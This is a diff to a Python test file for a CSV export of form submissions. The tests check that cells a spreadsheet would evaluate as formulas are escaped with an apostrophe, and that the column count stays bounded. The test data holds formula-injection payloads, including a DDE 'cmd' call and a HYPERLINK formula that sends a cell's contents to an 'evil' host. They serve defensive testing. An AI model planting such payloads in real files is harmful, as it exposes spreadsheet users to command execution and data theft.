@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from zoneinfo import ZoneInfo
@@ -103,12 +104,96 @@ def test_csv_has_a_heading_and_a_row_for_each_submission() -> None:
     assert row[-3:] == ["a\nb", "cv.pdf", "x"]
 
 
-@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"])
-def test_no_cell_is_a_formula(cell: str) -> None:
-    """A cell that a spreadsheet would calculate begins with an apostrophe, in headings too."""
+@pytest.mark.parametrize(
+    ("cell", "safe"),
+    [
+        *(
+            (cell, "'" + cell)
+            for cell in ("=1+1", "+1", "-1", "@SUM(A1)", "＝1", "＋1", "－1", "＠x")
+        ),
+        *(
+            (cell, "'" + cell)
+            for cell in ("﹦1", "⁼1", "﹢1", "−1", "﹣1", " =1", "\u00a0=1", "\u3000＝1")
+        ),
+        *(
+            (cell, "'" + cell)
+            for cell in ("\u200b=1", "\ufeff=1", "\0=1", "\x0b=1", "\x85=1", "\u202e=1")
+        ),
+        *(
+            (cell, "'" + cell)
+            for cell in ('"=1', "=cmd|' /C calc'!A0", "\tplain", "\rplain", "\nplain")
+        ),
+        ("\t=1", "'\t'=1"),
+        ('a;=HYPERLINK("http://evil/?"&A1)', 'a;\'=HYPERLINK("http://evil/?"&A1)'),
+        ('a; "=1;+2', "a;' \"=1;'+2"),
+        ("a\t=1", "a\t'=1"),
+        ("a\r\n@x", "a\r\n'@x"),
+        ("a;\u3000－1", "a;'\u3000－1"),
+    ],
+)
+def test_no_cell_is_a_formula(cell: str, safe: str) -> None:
+    """What a spreadsheet would calculate has an apostrophe before it, in headings too."""
     heading, row = table_of([timeline_of((Entry(cell, cell),))])
-    assert heading[-1] == "'" + cell
-    assert row[-1] == "'" + cell
+    assert heading[-1] == safe
+    assert row[-1] == safe
+
+
+@pytest.mark.parametrize(
+    "cell", ["a=1", "a,=1", "1-2", "a@b.example", "ー1", "3 = 3", "; ; x", "'=1", "a;b", "|cmd", ""]
+)
+def test_what_is_no_formula_stays(cell: str) -> None:
+    """Honest text is not touched: a sign within it, a mail address, a long vowel."""
+    assert export.guarded(cell) == cell
+
+
+FORMULA_SIGNS = "=+-@＝＋－＠"
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+@given(st.lists(st.text(st.sampled_from(FORMULA_SIGNS + ";,\t\r\n\"' a1\u3000\0"), max_size=12)))
+def test_no_reader_sees_a_formula(delimiter: str, values: list[str]) -> None:
+    """However a spreadsheet parts cells and lines, none of them begins as a formula, blanks and quotes aside."""
+    out = io.StringIO(newline="")
+    timelines = [timeline_of(tuple(Entry(f"f{n}", value) for n, value in enumerate(values)))]
+    fields = export.field_columns(timelines)
+    export.write_csv(timelines, fields, lambda m: m.standing.status.value, out, TOKYO)
+    # Who parts cells otherwise sees no quotes around a line end, and so a line more.
+    texts = re.split("[\r\n]", out.getvalue()) if delimiter != "," else []
+    for line in [out.getvalue(), *texts]:
+        for row in csv.reader(io.StringIO(line.replace("\0", ""), newline=""), delimiter=delimiter):
+            for cell in row:
+                assert not cell.strip(' "\u3000').startswith(tuple(FORMULA_SIGNS)), (line, cell)
+
+
+def test_a_stranger_makes_no_wide_table() -> None:
+    """Ten thousand names in one sending get the columns that are left; the others share one, and nothing is lost."""
+    strange = tuple(Entry(f"x{n}", f"v{n}") for n in range(10_000))
+    honest = [timeline_of((Entry("message", "hello"), Entry("name", "Aoi"))) for _ in range(3)]
+    timelines = [timeline_of(strange), *honest]
+    columns = export.field_columns(timelines, ["name"])
+    assert columns.has_more
+    assert columns.fields[0] == "name"
+    assert "message" in columns.fields
+    assert len(columns.fields) == export.MOST_COLUMNS + 1
+    out = io.StringIO(newline="")
+    export.write_csv(timelines, columns, lambda m: m.standing.status.value, out, TOKYO)
+    csv.field_size_limit(10**9)
+    heading, row, *others = csv.reader(io.StringIO(out.getvalue(), newline=""))
+    assert heading[-1] == export.MORE_COLUMN
+    assert "x9999: v9999" in row[-1].split("\n")
+    assert [other[-1] for other in others] == [""] * 3
+
+
+def test_names_without_end_are_counted_in_bounds() -> None:
+    """Sending after sending with new names: what most submissions have keeps its column."""
+    timelines = (
+        timeline_of((*(Entry(f"{m}.{n}", "") for n in range(1_000)), Entry("message", "hello")))
+        for m in range(60)
+    )
+    columns = export.field_columns(timelines)
+    assert columns.has_more
+    assert "message" in columns.fields
+    assert len(columns.fields) == export.MOST_COLUMNS
 
 
 @given(
